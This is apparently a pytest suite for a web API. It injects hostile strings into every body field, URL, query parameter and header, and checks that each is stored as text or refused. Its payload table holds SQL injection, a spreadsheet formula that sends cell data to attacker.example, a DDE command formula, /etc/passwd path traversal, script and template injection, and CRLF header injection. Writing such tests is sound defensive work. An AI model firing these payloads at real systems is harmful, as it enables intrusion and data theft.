"""SQL, formulas of spreadsheets, paths and invisible signs, in every field: they are text, or they are refused."""

from __future__ import annotations

import pytest

from api.access import RULES
from tests.torture.bodies import BODIES, DECISION, texts_in, with_value
from tests.torture.counts import times

TEXTS = {
    "sql": "'; drop table decision; --",
    "sql of any row": "' or '1'='1",
    "formula": '=HYPERLINK("http://attacker.example/?"&A1,"x")',
    "formula of a shell": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula with a sign": "+1+1",
    "path": "../../../../etc/passwd",
    "markup": "<script>alert(1)</script>",
    "template": "${7777*7777}{{7777*7777}}%s%n",
    "line ends": "a\r\nSet-Cookie: x=1",
    "nothing": "\x00",
    "right to left": "\u202e\u2066\ufeff",
    "half a sign": "\\ud800",
    "many": "九" * 5000,
}
ASKED = ("reference", "from", "cursor", "limit", "holder", "project", "known_at", "name", "q")
ROUTES = [line for line in RULES if line[1].startswith("/v1/") and line[1] != "/v1/store:backup"]
FIELDS = [(line, path) for line, body in BODIES.items() for path in texts_in(body)]


def some_of(places, text):
    """Return where to put a text: everywhere, or in the short form at every third place, at another third each time."""
    step = times(3, 1)
    return places[list(TEXTS.values()).index(text) % step :: step]


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_in_every_field_it_is_text_or_refused(client, services, keys, bodies, text, did):
    chosen = some_of(FIELDS, text)
    for line, path in chosen:
        method, address = line.split(" ")
        body = with_value(bodies[line], path, text)
        answer = client.request(method, address.replace("{id}", "d-1"), json=body, headers=keys["admin"])
        assert answer.status_code in (200, 201, 404, 422), (line, path, answer.text)
        assert "set-cookie" not in answer.headers
        assert "60481729" not in answer.text
        if answer.status_code == 201 and path == ("reference",):
            assert answer.json()["reference"] == text
    did("fields with a hostile text", len(chosen))
    assert [finding for finding in services.store.check() if finding.is_fault] == []


def test_a_name_comes_back_as_it_was_written(client, keys):
    for text in (TEXTS["sql"], TEXTS["formula"], TEXTS["markup"], TEXTS["template"]):
        body = DECISION | {"project": {"name": text}}
        sent = client.request("POST", "/v1/decisions", json=body, headers=keys["intake"]).json()
        read = client.request("GET", f"/v1/decisions/{sent['id']}", headers=keys["intake"])
        assert read.json()["personal"] == "shown"
        told = client.request("GET", f"/v1/decisions/{sent['id']}/replay", headers=keys["intake"]).json()
        assert told["same"] is True


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_in_addresses_questions_and_headers_it_is_text_or_refused(client, keys, text, did):
    shown = {**keys["admin"], "X-Request-Id": "x", "If-None-Match": text[:100].encode()}
    asked = dict.fromkeys(ASKED, text[:300])
    routes = some_of(ROUTES, text)
    for number, (method, path) in enumerate(routes):
        address = path.replace("{id}", "".join(f"%{byte:02x}" for byte in text[:300].encode()))
        query = asked if number % 2 or "{id}" not in path else {}
        answer = client.request(method, address, params=query, headers=shown, content=b"")
        assert answer.status_code < 500, (method, path, answer.text)
        assert "root:x:" not in answer.text
        assert "60481729" not in answer.text
    did("addresses with a hostile text", len(routes))
